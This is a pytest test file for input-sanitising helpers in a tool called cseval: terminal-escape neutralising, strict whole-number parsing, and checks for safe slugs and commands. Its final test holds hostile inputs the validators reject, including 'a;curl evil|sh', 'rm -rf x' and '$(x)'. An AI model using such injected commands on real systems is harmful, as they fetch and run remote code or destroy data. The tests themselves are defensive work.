"""What a stranger wrote does nothing on the screen, in a number, or in a command."""

from __future__ import annotations

import json

import pytest

from cseval.errors import DataError
from cseval.papers.plain import is_command, is_slug, printable, printable_json, printable_lines, quoted, whole


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;x\x07", "\\x1b]0;x\\x07"),
        ("\x9b31m", "\\x9b31m"),
        ("a\u202eb\u2066c", "a\\u202eb\\u2066c"),
        ("a\nb\r", "a\\nb\\r"),
        ("\ud800", "\\ud800"),
        ("−6.2%\u00a0to é", "−6.2% to é"),
    ],
)
def test_what_a_terminal_would_obey_is_shown_as_an_escape(text, shown):
    assert printable(text) == shown
    assert quoted(text) == f"'{shown}'"


def test_a_long_text_is_cut():
    assert printable("x" * 80) == "x" * 80
    assert printable("x" * 10_000_000) == "x" * 79 + "…"
    assert printable("\x9b" * 81) == ("\\x9b" * 20)[:79] + "…"
    assert printable("x" * 200, 0) == "x" * 200


def test_the_lines_of_a_message_stay_lines():
    assert printable_lines("a\n  - \x1bb") == "a\n  - \\x1bb"


def test_json_means_the_same_and_holds_nothing_that_a_terminal_obeys():
    content = {"a": "\x9b\u202e\x7f\ud800−é\n\U000e0001"}
    shown = printable_json(json.dumps(content, indent=2, ensure_ascii=False))
    assert json.loads(shown) == content
    assert all(c.isprintable() or c == "\n" for c in shown)
    assert "−é" in shown


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("12", 12),
        ("-5", -5),
        ("+7", 7),
        ("4294967295", 4294967295),
        ("", -1),
        ("21cm", -1),
        ("8.5in", -1),
        ("50%", -1),
        ("4680.0", -1),
    ],
)
def test_whole_numbers(text, number):
    assert whole(text, "here", otherwise=-1) == number


@pytest.mark.parametrize("text", ["9" * 11, "9" * 5000, "--5", "٣", "²", "1e9", " 1", "x", "-", "9" * 11 + "cm"])
def test_a_number_that_word_would_not_write_is_refused(text):
    with pytest.raises(DataError, match=r"here: the number '.*expected a whole number of at most 10 digits") as error:
        whole(text, "here")
    assert len(str(error.value)) < 250


def test_what_may_stand_in_a_command():
    assert is_slug("pilot-evaluation")
    assert not any(map(is_slug, ("", "a;curl evil|sh", "a b", "$(x)", "A", "a\n", "--force")))
    assert is_command("cseval run pilot-evaluation --data demonstration --draws 9999 --seed 3")
    assert is_command("cseval claims --write")
    assert not any(
        map(is_command, ("rm -rf x", "cseval run a; b", "cseval run a\n", "cseval data import x", "cseval run"))
    )
